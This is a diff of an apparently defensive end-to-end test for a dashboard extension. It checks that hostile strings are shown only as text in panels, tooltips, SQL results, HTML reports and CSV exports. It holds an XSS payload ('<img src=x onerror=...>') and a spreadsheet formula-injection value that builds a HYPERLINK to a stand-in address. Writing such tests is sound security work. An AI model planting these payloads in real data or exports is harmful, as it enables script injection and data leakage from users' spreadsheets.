@@ -1,16 +1,12 @@
 import { strict as assert } from 'node:assert';
-import { once } from 'node:events';
-import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { tmpdir } from 'node:os';
-import { dirname, join } from 'node:path';
-import { targetDatabasePath } from '../../../src/domain/target';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { parse } from 'csv-parse/sync';
+import type { FrameLocator } from 'playwright-core';
 import { minuteOf as minuteSeconds } from '../../../src/domain/time';
-import { productName, settingKeys } from '../../../src/ids';
-import { WholeDatabase } from '../../unit/store/support/wholeDatabase';
-import { repositoryRoot } from '../../support/repository';
+import { productName } from '../../../src/ids';
+import type { WholeDatabase } from '../../unit/store/support/wholeDatabase';
 import {
   batchOf,
   clientOf,
@@ -22,68 +18,127 @@ import {
 } from '../../unit/store/support/batches';
 import { accessibilityViolations } from '../pages/accessibility';
 import { DashboardPage } from '../pages/dashboardPage';
+import { useDatabase } from '../useDatabase';
 import { useWorkbench } from '../useWorkbench';
 
 /** It would raise an error in the page, and leave an image there, if it became markup. */
 const evil = '<img src=x onerror="throw new Error(\'hostile\')">';
 
+/** A spreadsheet would ask that address. */
+const formula = '=HYPERLINK("http://127.0.0.1:2/?"&A1)';
+
 describe('a server whose paths, clients and messages are hostile', () => {
   const current = useWorkbench({ viewport: { width: 1440, height: 1000 } });
-  let server: Server;
-  let storage: string;
+  const database = useDatabase(current, fill);
 
-  before(async function () {
-    this.timeout(60_000);
-    storage = mkdtempSync(join(tmpdir(), 'hostile-'));
-    server = createServer((_request, response) => {
-      response.setHeader('content-type', 'text/plain; version=0.0.4');
-      response.end('mockforge_uptime_seconds 5\n');
-    });
-    server.listen(0, '127.0.0.1');
-    await once(server, 'listening');
-    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-    const urls = { metricsUrl: `${address}/metrics`, adminUrl: address };
-    await fill(join(storage, targetDatabasePath(urls)));
-    await current().workbench.applySettings({
-      [settingKeys.storagePath]: storage,
-      [settingKeys.metricsUrl]: urls.metricsUrl,
-      [settingKeys.adminUrl]: urls.adminUrl,
-    });
-  });
+  function dashboard(): DashboardPage {
+    return new DashboardPage(current().workbench.webview(productName).frame);
+  }
 
-  after(async () => {
-    server.closeAllConnections();
-    server.close();
-    await once(server, 'close');
-    rmSync(storage, { recursive: true, force: true });
-  });
+  /** Whatever the hostile text has become, it is no element of a view, and nothing complained. */
+  async function isTextOnly(frame: FrameLocator): Promise<void> {
+    assert.equal(await frame.locator('img').count(), 0);
+    assert.deepEqual(current().workbench.takeProblems(), []);
+  }
 
   it('is shown as text, in every panel', async () => {
     const { workbench } = current();
     await workbench.runCommand(`${productName}: Open Dashboard`);
-    const webview = workbench.webview(productName);
-    const dashboard = new DashboardPage(webview.frame);
-    await dashboard.chooseRange('1h');
-    const row = dashboard.panel('Endpoints').getByRole('row').nth(1);
+    const page = dashboard();
+    await page.chooseRange('1h');
+    const row = page.panel('Endpoints').getByRole('row').nth(1);
     await row.waitFor();
     assert.match((await row.textContent()) ?? '', /<img src=x/);
-    await dashboard.panel('Live tail').getByRole('row').nth(1).getByRole('button').first().click();
-    await webview.frame.getByText(`body: ${evil}`).first().waitFor();
-    assert.equal(await webview.frame.locator('img').count(), 0);
-    assert.deepEqual(await accessibilityViolations(webview.frame), []);
-    await row.getByRole('button').first().click();
-    await webview.frame.getByRole('heading', { name: /onerror/ }).waitFor();
-    assert.equal(await webview.frame.locator('img').count(), 0);
-    await workbench.screenshot('hostile');
-    assert.deepEqual(webview.takeProblems(), []);
-    await dashboard.backToAll();
+    const failed = page.panel('Live tail').getByRole('row').filter({ hasText: '500' });
+    await failed.getByRole('button').first().click();
+    const detail = page.frame.getByRole('region', { name: 'Failed request' });
+    await detail.getByText(`body: ${evil}`).waitFor();
+    await workbench.screenshot('hostile-detail');
+    await isTextOnly(page.frame);
+    assert.deepEqual(await accessibilityViolations(page.frame), []);
+    await detail.getByRole('button', { name: 'Close' }).click();
+  });
+
+  it('is shown as text where a window is explained, and on the page of an endpoint', async () => {
+    const page = dashboard();
+    await page.selectSteps('Traffic', 15);
+    await page.selection.first().getByRole('button', { name: 'Explain' }).click();
+    const explained = page.frame.getByRole('region', { name: /explained$/ });
+    await explained
+      .getByRole('button', { name: /<img src=x/ })
+      .first()
+      .waitFor();
+    await isTextOnly(page.frame);
+    await explained
+      .getByRole('button', { name: /<img src=x/ })
+      .first()
+      .click();
+    await page.frame.getByRole('heading', { name: /onerror/ }).waitFor();
+    await isTextOnly(page.frame);
+    await current().workbench.screenshot('hostile');
+    await page.backToAll();
+  });
+
+  it('is shown as text in the side bar, its tooltips too', async () => {
+    const { workbench } = current();
+    await workbench.openContainer(productName);
+    for (const tree of ['Top Endpoints', 'Recent Errors']) {
+      const row = workbench
+        .tree(tree)
+        .row(/<img src=x/)
+        .first();
+      await row.hover();
+      const hover = workbench.page
+        .locator('.workbench-hover:visible')
+        .filter({ hasText: '<img src=x' });
+      await hover.first().waitFor();
+      await workbench.screenshot(`hostile-${tree}`);
+      assert.equal(await workbench.page.locator('.workbench-hover img, .pane-body img').count(), 0);
+      await workbench.page.mouse.move(0, 0);
+    }
+    await workbench.tree('Recent Errors').expand(/^GET \/api\/<img src=x/);
+    await workbench
+      .tree('Recent Errors')
+      .row(/, from <img src=x/)
+      .first()
+      .waitFor();
+  });
+
+  it('is shown as text in the result of a statement', async () => {
+    const { workbench } = current();
+    await workbench.runCommand(`${productName}: Run SQL...`);
+    const box = workbench.page.locator('.quick-input-widget').getByRole('textbox');
+    await box.fill('SELECT endpoint, user_agent, error_message, request_id FROM error_events');
+    await box.press('Enter');
+    const { frame } = workbench.webview('SQL Result');
+    await frame.getByRole('cell', { name: `body: ${evil}` }).waitFor();
+    await isTextOnly(frame);
+    await workbench.runCommand('View: Close Editor');
+  });
+
+  it('is text in a report, and no formula in a spreadsheet', async () => {
+    const { workbench } = current();
+    const page = dashboard();
+    await page.toolbarButton('Export report').click();
+    await workbench.quickInput.choose('HTML report');
+    const report = await workbench.saveAs(join(database.folder(), 'report.html'));
+    const reader = await workbench.openReader();
+    await reader.goto(pathToFileURL(report).href);
+    await reader.getByText(evil).first().waitFor();
+    assert.equal(await reader.locator('img, script').count(), 0);
+    await reader.close();
+    await page.panel('Clients').getByRole('button', { name: 'Export Clients as CSV' }).click();
+    const csv = readFileSync(
+      await workbench.saveAs(join(database.folder(), 'clients.csv')),
+      'utf8',
+    );
+    const rows = parse<{ 'User agent': string }>(csv, { bom: true, columns: true });
+    const agents = rows.map((row) => row['User agent']);
+    assert.deepEqual(agents.sort(), [`'${formula}`, evil]);
   });
 });
 
-async function fill(file: string): Promise<void> {
-  mkdirSync(dirname(file), { recursive: true });
-  const wasmPath = join(repositoryRoot(), 'dist', 'sql-wasm.wasm');
-  const database = await WholeDatabase.open({ file, wasmPath });
+async function fill(database: WholeDatabase): Promise<void> {
   const minute = minuteSeconds(Date.now()) - 600;
   const endpoint = `/api/${evil}`;
   await database.commit(
@@ -98,7 +153,9 @@ async function fill(file: string): Promise<void> {
           ],
         }),
       ],
-      clients: [clientOf({ hour: minute - (minute % 3600), userAgent: evil })],
+      clients: [evil, formula].map((userAgent) =>
+        clientOf({ hour: minute - (minute % 3600), userAgent }),
+      ),
       errors: [
         errorOf({
           timestamp: minute,
@@ -117,5 +174,4 @@ async function fill(file: string): Promise<void> {
       ],
     }),
   );
-  await database.close();
 }
